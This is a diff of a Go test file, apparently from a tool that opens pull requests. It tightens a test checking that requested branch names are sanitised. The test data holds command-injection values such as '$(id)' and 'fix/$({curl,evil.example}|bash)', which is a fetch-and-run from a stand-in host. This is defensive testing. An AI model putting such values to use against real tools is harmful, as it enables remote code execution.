@@ -58,7 +58,7 @@ func (s *schedule) opened() (list []string) {
 }
 
 // TestScheduledRunsKeepTheirPullRequests asserts that a run for another purpose does not replace
-// the pull request of an earlier run.
+// the pull request of an earlier run, and that one for the same purpose updates it.
 func TestScheduledRunsKeepTheirPullRequests(t *testing.T) {
 	t.Parallel()
 	s := newSchedule(t)
@@ -78,7 +78,7 @@ func TestBranchNamesAreSafe(t *testing.T) {
 	s.policy += "  max: -1\n"
 	s.git.SetBranch("gh-pages", s.git.SHA("master"))
 	s.git.Run("tag", "v2", s.git.SHA("master"))
-	asked := map[string]string{
+	asked := map[string]string{ // by the name that was asked for: how the branch's name begins
 		"$(id)": "airlock/id-d7d54e79", "`id`": "airlock/id-625b83fe", "a;b": "airlock/a-b-5719af18", "fix/$({curl,evil.example}|bash)": "airlock/fix/curl-evil.example-bash-bc94b322",
 		"@": "airlock/changes-c3641f85", "HEAD": "airlock/HEAD-", "FETCH_HEAD": "airlock/FETCH_HEAD", "Master": "airlock/Master", "master": "airlock/master", "gh-pages": "airlock/gh-pages",
 		"release/1.0": "airlock/release/1.0", "dependabot/npm/x": "airlock/dependabot/npm/x", "v2": "airlock/v2", "refs/heads/master": "airlock/master-", "user/@scope/x": "airlock/user/scope/x-",
@@ -99,7 +99,7 @@ func TestBranchNamesAreSafe(t *testing.T) {
 	}
 	for i, name := range names {
 		head := opened[i].Pull.Head.Ref
-		if !strings.HasPrefix(head, strings.TrimSuffix(asked[name], "-2")) || strings.Trim(head, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._/-") != "" {
+		if !strings.HasPrefix(head, asked[name]) || strings.Trim(head, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._/-") != "" {
 			t.Errorf("%q leads to %q, want %q", name, head, asked[name])
 		}
 		if shown, _ := json.Marshal(fmt.Sprintf("the branch %q was asked for; its name is %q", name, strings.TrimSuffix(head, "-2"))); !strings.Contains(res.stdout, strings.Trim(string(shown), `"`)) && !strings.Contains(name, "@") {
